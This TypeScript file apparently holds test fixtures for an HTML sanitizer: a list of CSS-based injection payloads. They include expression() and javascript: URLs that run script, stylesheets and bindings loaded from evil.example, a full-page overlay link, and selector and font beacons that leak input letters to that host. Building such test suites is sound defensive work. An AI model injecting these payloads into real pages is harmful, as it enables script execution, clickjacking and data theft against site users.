import type { Attack } from './attack.ts';

/** Style sheets run code in old engines, and in all of them load, cover and spell out what a page holds. */
export const css: readonly Attack[] = [
  { name: 'an import', html: '<style>@import url(//evil.example/x.css);</style>' },
  { name: 'an import by entity', html: "<style>@im\\port'//evil.example/x.css';</style>" },
  { name: 'an expression', html: '<p style="width:expression(alert(1))">word</p>' },
  { name: 'an expression with a comment inside', html: '<p style="xss:expr/*x*/ession(alert(1))">word</p>' },
  { name: 'an escaped expression', html: '<p style="width:\\65xpression(alert(1))">word</p>' },
  { name: 'a script as a background', html: '<p style="background:url(javascript:alert(1))">word</p>' },
  {
    name: 'a script as a background, by entities',
    html: '<div style="background-image:url(&#1;javascript&colon;alert(1))">word</div>',
  },
  { name: 'a binding', html: '<p style="-moz-binding:url(//evil.example/x.xml#alert(1))">word</p>' },
  { name: 'a behaviour', html: '<p style="behavior:url(#default#time2)" onbegin=alert(1)>word</p>' },
  {
    name: 'a layer over the page',
    html: '<a style="position:fixed;inset:0;z-index:9999" href="https://evil.example/">go</a>',
  },
  { name: 'a beacon for each letter', html: '<style>[value^=a]{background:url(//evil.example/a)}</style>' },
  {
    name: 'a font for each letter',
    html: '<style>@font-face{font-family:x;src:url(//evil.example/A);unicode-range:U+0041}</style>',
  },
  { name: 'a style sheet linked', html: '<link rel=stylesheet href=//evil.example/x.css>' },
  {
    name: 'a style sheet as data',
    html: '<link rel=stylesheet href="data:text/css,*{x:expression(alert(1))}">',
  },
  { name: 'a style sheet of AMP’s own kind', html: '<style amp-custom>*{display:none}</style>' },
  { name: 'a style ended and begun', html: '</style><style>body{display:none}</style>' },
  { name: 'a list’s picture', html: '<ul style="list-style-image:url(javascript:alert(1))"><li>a</ul>' },
];
